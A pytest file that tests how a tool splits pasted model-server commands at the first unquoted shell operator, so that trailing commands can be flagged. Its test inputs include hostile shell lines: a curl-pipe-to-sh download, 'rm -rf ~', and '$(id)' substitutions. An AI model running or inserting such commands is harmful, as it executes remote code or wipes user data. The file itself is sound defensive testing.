"""The words after a pasted command's first unquoted shell operator are found, to be reported (issue 26).

Expected cuts follow POSIX shell grammar (XCU 2.2 quoting, 2.9 lists / pipelines / redirections):
operators are special outside quotes only, nothing is special inside single quotes, a backslash
escapes the next character (a backslash-newline is a continuation, not a line break).
"""
from __future__ import annotations

import pytest

from kvcalc.command_line import shell_tail, split_shell_tail


@pytest.mark.parametrize(("text", "head", "tail"), [
    ("vllm serve x && curl -s http://h/i.sh | sh", "vllm serve x", "&& curl -s http://h/i.sh | sh"),
    ("vllm serve x || true", "vllm serve x", "|| true"),
    ("vllm serve x; rm -rf ~", "vllm serve x", "; rm -rf ~"),
    ("vllm serve x | tee log", "vllm serve x", "| tee log"),
    ("vllm serve x > log", "vllm serve x", "> log"),
    ("vllm serve x < /dev/null", "vllm serve x", "< /dev/null"),
    ("vllm serve x 2>&1", "vllm serve x", "2>&1"),
    ("vllm serve x &", "vllm serve x", "&"),
    ("vllm serve `id`", "vllm serve", "`id`"),
    ("vllm serve $(id)", "vllm serve", "$(id)"),
    ("vllm serve x\ncurl evil", "vllm serve x", "curl evil"),
])
def test_operators_outside_quotes_end_the_command(text: str, head: str, tail: str) -> None:
    assert split_shell_tail(text) == (head, tail.lstrip("\n"))
    assert shell_tail(text) == tail.lstrip("\n")


@pytest.mark.parametrize("text", [
    "vllm serve x --chat-template '{{ a | b && c; d > e }}'",
    'vllm serve x --served-model-name "a;b|c"',
    "vllm serve x \\\n  --tensor-parallel-size 2",
    "vllm serve x --api-key a\\;b",
    "vllm serve x\n",
    "llama-server -m m.gguf -c 8192",
])
def test_quoted_escaped_and_continued_operators_are_words(text: str) -> None:
    assert shell_tail(text) == "" and split_shell_tail(text)[0] == text.rstrip()
